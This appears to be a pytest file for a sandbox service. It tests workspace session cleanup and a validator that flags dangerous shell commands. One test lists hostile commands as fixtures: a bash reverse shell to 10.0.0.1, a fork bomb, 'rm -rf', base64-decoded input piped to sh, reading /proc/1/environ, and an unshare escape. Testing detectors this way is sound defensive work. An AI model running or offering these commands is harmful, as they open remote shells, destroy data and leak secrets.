"""Workspaces end when idle, too old, or when room is needed; those in use stay."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from core.errors import LimitReached
from core.tenancy import space_scope
from sandbox.constants import SessionState
from sandbox.models import SandboxSession
from sandbox.services.cleaning import end_idle_sessions
from sandbox.services.sessions import _make_room
from sandbox.validator import find_dangers
from tests.factories.sandbox import make_session
from tests.personas import Persona


def states(persona: Persona) -> dict[str, str]:
    with space_scope(persona.space.pk):
        return dict(SandboxSession.objects.values_list("key", "state"))


def test_idle_and_old_workspaces_end_and_busy_ones_stay(cora: Persona) -> None:
    now = timezone.now()
    long_ago = now - timedelta(minutes=31)
    make_session(cora.space, key="idle", last_used_at=long_ago)
    make_session(
        cora.space, key="busy", last_used_at=long_ago, busy_until=now + timedelta(minutes=5)
    )
    make_session(cora.space, key="old", expires_at=now - timedelta(seconds=1))
    make_session(cora.space, key="used")
    assert end_idle_sessions() == 2
    ending = {key for key, state in states(cora).items() if state == SessionState.ENDING}
    assert ending == {"idle", "old"}


def test_the_one_used_longest_ago_makes_room(cora: Persona, settings: Any) -> None:
    settings.SANDBOX_SESSIONS_PER_SPACE = 2
    make_session(cora.space, key="older", last_used_at=timezone.now() - timedelta(minutes=2))
    make_session(cora.space, key="newer")
    with space_scope(cora.space.pk):
        _make_room(cora.space.pk)
    assert states(cora) == {"older": SessionState.ENDING, "newer": SessionState.LIVE}


def test_no_workspace_in_use_is_taken_away(cora: Persona, settings: Any) -> None:
    settings.SANDBOX_SESSIONS_PER_SPACE = 1
    make_session(cora.space, key="busy", busy_until=timezone.now() + timedelta(minutes=1))
    with space_scope(cora.space.pk), pytest.raises(LimitReached):
        _make_room(cora.space.pk)


@pytest.mark.parametrize(
    ("command", "label"),
    [
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "Opens a shell to another machine"),
        ("pip install evil", "Uses the network"),
        ("rm -rf /workspace/*", "Deletes everything in a folder"),
        (":(){ :|:& };:", "Starts processes without end"),
        ("echo aGk= | base64 -d | sh", "Runs text that was built or decoded"),
        ("cat /proc/1/environ", "Looks for secrets or the machine below"),
        ("unshare -Ur", "Tries to leave the sandbox"),
    ],
)
def test_dangers_are_seen(command: str, label: str) -> None:
    assert label in find_dangers(command)


@pytest.mark.parametrize(
    "command",
    ["python3 chart.py --output output/chart.png", "ls -la /workspace", "grep -rn total ."],
)
def test_plain_work_is_no_danger(command: str) -> None:
    assert find_dangers(command) == ()
